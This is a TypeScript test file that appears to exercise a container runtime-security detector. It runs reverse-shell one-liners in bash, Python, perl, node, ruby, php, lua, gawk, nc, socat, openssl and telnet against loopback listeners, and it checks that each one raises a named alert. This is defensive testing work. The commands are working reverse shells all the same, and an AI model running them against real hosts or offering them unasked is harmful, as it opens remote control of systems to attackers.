import type { Technique } from "./technique.ts";

let port = 5000;
/** Somebody on the network who waits for the shell: a port of loopback that nobody else has, open for three seconds. */
function listener(typed = ""): { port: number; wait: string } {
  port++;
  const open = `grep -q ":${port.toString(16).padStart(4, "0").toUpperCase()} .* 0A " /proc/net/tcp /proc/net/tcp6`;
  return {
    port,
    wait: `(/bin/sh -c 'sleep 2; echo "${typed}"; sleep 1' | /bin/busybox nc -l -p ${port} >/dev/null 2>&1 &)
      n=0; until ${open} || [ $n = 500 ]; do n=$((n+1)); /bin/busybox usleep 20000; done`,
  };
}

function shell(
  what: string,
  rule: "reverse-shell" | "relayed-shell",
  command: (port: number) => string,
  more: Partial<Technique> & { typed?: string; first?: string } = {},
): Technique {
  const { typed, first = "true", ...rest } = more;
  const { port: open, wait } = listener(typed);
  return {
    what,
    in: "tools",
    script: `${first}; ${wait}
      /bin/busybox timeout 10 ${command(open)}; true`,
    alerts: { [rule]: { peer: `127.0.0.1:${open}` } },
    waits: true,
    ...rest,
  };
}

const inShell = (script: string): string => `/bin/sh -c '${script}'`;
const python = (script: string): string => `python3 -c '${script}'`;

/** Somebody on the network types into a program of a container. */
export const reverseShells: Technique[] = [
  shell("bash and /dev/tcp", "reverse-shell", (to) => `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${to} 0>&1'`, {
    rules: ["shell-command-that-opens-a-network-connection"],
  }),
  shell(
    "bash that starts no program",
    "reverse-shell",
    // It is found by a look at it a moment later: it lives for a while, whatever the other end does.
    (to) => `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${to} 1>&0 8<>/tmp/never; read -t 8 -u 8'`,
    { first: "mkfifo /tmp/never" },
  ),
  shell(
    "python, its descriptors moved",
    "reverse-shell",
    (to) =>
      python(
        `import socket,os;s=socket.create_connection(("127.0.0.1",${to}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl("/bin/sh","sh","-i")`,
      ),
    { rules: ["interpreter-command-with-a-socket-and-a-shell"] },
  ),
  shell(
    "python with a terminal between",
    "relayed-shell",
    (to) => python(`import socket,pty;s=socket.create_connection(("127.0.0.1",${to}));pty.spawn("/bin/sh")`),
    { rules: ["interpreter-that-makes-a-terminal-for-a-shell"] },
  ),
  shell(
    "python over multipath TCP",
    "reverse-shell",
    (to) =>
      python(
        `import socket,os;s=socket.socket(2,1,262);s.connect(("127.0.0.1",${to}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl("/bin/sh","sh","-i")`,
      ),
    { rules: ["interpreter-command-with-a-socket-and-a-shell"] },
  ),
  shell(
    "python over multipath TCP with a terminal between",
    "relayed-shell",
    (to) => python(`import socket,pty;s=socket.socket(2,1,262);s.connect(("127.0.0.1",${to}));pty.spawn("/bin/sh")`),
    { rules: ["interpreter-that-makes-a-terminal-for-a-shell"] },
  ),
  shell(
    "perl",
    "reverse-shell",
    (to) =>
      `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("127.0.0.1:${to}");open(STDIN,"<&",$s);open(STDOUT,">&",$s);exec("/bin/sh","-i")'`,
  ),
  shell(
    "node",
    "reverse-shell",
    (to) =>
      `/opt/node -e 'const s=require("net").connect(${to},"127.0.0.1",()=>require("child_process").spawn("/bin/sh",["-i"],{stdio:[s,s,s]}))'`,
  ),
  shell(
    "ruby",
    "reverse-shell",
    (to) => `ruby -rsocket -e 's=TCPSocket.new("127.0.0.1",${to});exec "/bin/sh","-i",0=>s,1=>s,2=>s'`,
    { needs: ["interpreters"] },
  ),
  shell(
    "php",
    "reverse-shell",
    (to) => `php -r '$s=fsockopen("127.0.0.1",${to});$p=proc_open(["/bin/sh","-i"],[$s,$s,$s],$n);sleep(1);'`,
    { needs: ["interpreters"] },
  ),
  shell(
    "lua",
    "reverse-shell",
    (to) =>
      `lua5.4 -e 'local s=require("socket").tcp();s:connect("127.0.0.1",${to});os.execute(string.format("sh -i <&%d >&0 2>&0",s:getfd()))'`,
    { needs: ["interpreters"] },
  ),
  shell(
    "awk, which starts a program for each line",
    "relayed-shell",
    (to) =>
      `gawk 'BEGIN{s="/inet/tcp/0/127.0.0.1/${to}";while((s|&getline c)>0){while((c|&getline)>0)print|&s;close(c)}}'`,
    {
      needs: ["interpreters"],
      typed: "id",
      // What it starts is connected to it by pipes that are no standard descriptors of its own.
      alerts: { "shell-command-that-opens-a-network-connection": { "proc.cmdline": "/inet/tcp" } },
    },
  ),
  shell("nc -e", "reverse-shell", (to) => `/bin/nc 127.0.0.1 ${to} -e /bin/sh`, {
    in: "plain",
    rules: ["network-tool-that-starts-a-program", "network-tool-listens"],
  }),
  shell("a FIFO, a shell and nc", "relayed-shell", (to) =>
    inShell(`mkfifo /tmp/nc; sh -i </tmp/nc 2>&1 | /bin/busybox nc 127.0.0.1 ${to} >/tmp/nc`),
  ),
  shell(
    "a FIFO, a shell and openssl",
    "relayed-shell",
    (to) =>
      inShell(`mkfifo /tmp/tls; sh -i </tmp/tls 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${to} >/tmp/tls`),
    { needs: ["openssl"], rules: ["encrypted-client-as-a-shell-s-transport"] },
  ),
  shell("socat", "relayed-shell", (to) => `socat TCP:127.0.0.1:${to} EXEC:/bin/sh`, {
    needs: ["interpreters"],
    rules: ["relay-that-starts-a-program"],
  }),
  shell("socat with a terminal", "relayed-shell", (to) => `socat TCP:127.0.0.1:${to} EXEC:/bin/sh,pty,stderr`, {
    needs: ["interpreters"],
  }),
  twoTelnets(),
];

/** One port to type into, another to read the answers from. */
function twoTelnets(): Technique {
  const [input, output] = [listener("id"), listener()];
  return {
    what: "telnet with two pipes",
    in: "plain",
    script: `${input.wait}
      ${output.wait}
      /bin/busybox timeout 5 /bin/sh -c 'sleep 4 | /bin/telnet 127.0.0.1 ${input.port} | /bin/sh | /bin/telnet 127.0.0.1 ${output.port}'; true`,
    alerts: { "relayed-shell": { relay: "/bin/telnet 127.0.0.1" } },
    rules: ["telnet-fed-from-a-pipe"],
    waits: true,
  };
}
